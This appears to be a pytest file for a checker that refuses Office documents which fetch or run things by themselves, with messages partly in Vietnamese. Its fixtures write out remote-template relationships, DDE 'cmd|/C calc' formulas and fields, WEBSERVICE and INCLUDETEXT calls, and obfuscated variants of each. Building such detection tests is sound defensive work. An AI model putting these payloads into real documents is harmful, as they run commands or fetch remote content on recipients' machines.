"""Whatever an Office file reaches out to is found, however it is written; what clicks is named."""

from __future__ import annotations

import io
import time
import zipfile
from pathlib import Path

import pytest

from registry.evidence.file_types import clicked_links, type_of
from registry.evidence.folder import gathered
from registry.evidence.matching import EvidenceCodes
from registry.evidence.policy import evidence_policy
from registry.package.document_check import check_document
from reports.dossier.form_entries import NO_FORM
from scoring.engine.scorer import score
from scoring.tables.zip_limits import Unsafe
from tests.support.packages import docx, zipped
from tests.support.sample_sheets import ASSESSMENTS
from tests.support.strategies import decision_06

SHEET = score(decision_06(), ASSESSMENTS["mien-nui-dat"])
HEAD = b'<?xml version="1.0"?><Relationships xmlns="http://x">'
TAIL = b"</Relationships>"
TEMPLATE = (
    b'<Relationship Id="a" Type="http://x/relationships/attachedTemplate" '
    b'Target="https://a.vn/b.dotm" TargetMode="External"/>'
)
CLICK = TEMPLATE.replace(b"attachedTemplate", b"hyperlink")


def relations(*inner: bytes) -> bytes:
    return HEAD + b"".join(inner) + TAIL


def word(content: bytes, name: str = "word/_rels/settings.xml.rels") -> bytes:
    return docx({name: content})


def workbook(extra: dict[str, bytes]) -> bytes:
    return zipped({"[Content_Types].xml": b"<a/>", "xl/workbook.xml": b"<a/>", **extra})


def twice() -> bytes:
    target = io.BytesIO(docx())
    with zipfile.ZipFile(target, "a") as archive:
        archive.writestr("word/_rels/settings.xml.rels", relations(TEMPLATE))
        with pytest.warns(UserWarning, match="Duplicate name"):
            archive.writestr("word/_rels/settings.xml.rels", relations())
    return target.getvalue()


CELLS = "xl/worksheets/sheet1.xml"
REACHING_OUT = {
    "a remote template": word(relations(TEMPLATE)),
    "a line break after the name": word(
        relations(TEMPLATE.replace(b"Relationship ", b"Relationship\n\t"))
    ),
    "a mode in character references": word(
        relations(TEMPLATE.replace(b'"External"', b'"Ext&#101;rnal"'))
    ),
    "a type in character references": word(
        relations(TEMPLATE.replace(b"attachedTemplate", b"attachedTempl&#97;te"))
    ),
    "a bracket within an attribute": word(relations(TEMPLATE.replace(b'Id="a"', b'Id="a>" x=">"'))),
    "a mode in small letters": word(relations(TEMPLATE.replace(b"External", b"external"))),
    "no mode but an address": word(relations(TEMPLATE.replace(b' TargetMode="External"', b""))),
    "relations in UTF-16": word(
        relations(TEMPLATE).decode().replace("1.0", '1.0" encoding="UTF-16').encode("utf-16")
    ),
    "relations with another ending": word(relations(TEMPLATE), "word/_rels/settings.xml.RELS"),
    "a prefix": word(
        b'<r:Relationships xmlns:r="http://x">'
        + TEMPLATE.replace(b"<Relationship", b"<r:Relationship")
        + b"</r:Relationships>"
    ),
    "a link of a workbook in another folder": workbook(
        {
            "xl/_rels/workbook.xml.rels": relations(
                b'<Relationship Id="a" Type="http://x/externalLink" Target="khac/x.xml"/>'
            )
        }
    ),
    "a connection to the web": workbook(
        {
            "xl/_rels/workbook.xml.rels": relations(
                b'<Relationship Id="a" Type="http://x/connections" Target="connections.xml"/>'
            )
        }
    ),
    "a linked object": workbook(
        {
            "xl/worksheets/_rels/sheet1.xml.rels": relations(
                TEMPLATE.replace(b"attachedTemplate", b"oleObject")
            )
        }
    ),
    "a formula that calls a program": workbook({CELLS: b"<s><c><f>cmd|'/C calc'!A0</f></c></s>"}),
    "such a formula in references": workbook({CELLS: b"<s><c><f>cmd&#124;'/C'!A0</f></c></s>"}),
    "a name that calls a program": workbook(
        {"xl/styles.xml": b"<s><definedName>cmd|'/C calc'!A0</definedName></s>"}
    ),
    "a formula that asks the web": workbook({CELLS: b'<s><f>WEBSERVICE("https://a.vn/")</f></s>'}),
    "a field that calls a program": docx(
        {"word/footer1.xml": b"<w><instrText>DDE</instrText><instrText>AUTO c x</instrText></w>"}
    ),
    "a field that includes": docx(
        {"word/footer1.xml": b"<w><fldSimple instr='INCLUDETEXT \"https://a.vn\"'/></w>"}
    ),
}


@pytest.mark.parametrize("name", REACHING_OUT)
def test_whatever_fetches_by_itself_is_refused(name: str) -> None:
    with pytest.raises(Unsafe) as found:
        type_of(REACHING_OUT[name])

    assert "lien-ket-ngoai" == found.value.code


def test_two_parts_of_one_name_are_refused() -> None:
    with pytest.raises(Unsafe) as found:
        type_of(twice())

    assert "tep-hong" == found.value.code


@pytest.mark.parametrize(
    "wrong", [b"<<<<", b"", HEAD, b'<?xml version="1.0" encoding="x-none"?><a/>']
)
def test_relations_that_nobody_can_read_are_refused(wrong: bytes) -> None:
    with pytest.raises(Unsafe) as found:
        type_of(word(wrong))

    assert "tep-hong" == found.value.code


def test_a_part_of_many_brackets_is_read_in_no_time() -> None:
    start = time.process_time()
    with pytest.raises(Unsafe):
        type_of(
            zipped(
                {
                    "[Content_Types].xml": b"<a/>",
                    "word/document.xml": b"<a/>",
                    "word/_rels/x.rels": b"<" * 200_000,
                },
                level=1,
            )
        )

    assert time.process_time() - start < 1


@pytest.mark.parametrize("type_", ["docx", "xlsx"])
def test_a_link_that_waits_for_a_click_is_taken_and_named(tmp_path: Path, type_: str) -> None:
    made = (
        word(relations(CLICK))
        if type_ == "docx"
        else workbook({"xl/_rels/a.rels": relations(CLICK)})
    )
    (tmp_path / f"7.{type_}").write_bytes(made)
    found = gathered(
        tmp_path, EvidenceCodes(SHEET, NO_FORM), evidence_policy().reasons(decision_06())
    )

    assert type_ == type_of(made)
    assert ["https://a.vn/b.dotm"] == clicked_links(made)
    assert [type_] == [one.type for one in found.exhibits]
    assert [
        (
            f"{tmp_path}/7.{type_}: [co-lien-ket] cảnh báo: trong tệp có liên kết tới "
            "«https://a.vn/b.dotm»; người xem bấm mới mở"
        )
    ] == [str(problem) for problem in found.problems]


def test_a_document_of_a_package_links_nowhere() -> None:
    for made in (word(relations(CLICK)), REACHING_OUT["a type in character references"]):
        with pytest.raises(Unsafe) as found:
            check_document("01-cong-van.docx", made)

        assert "van-ban-la" == found.value.code
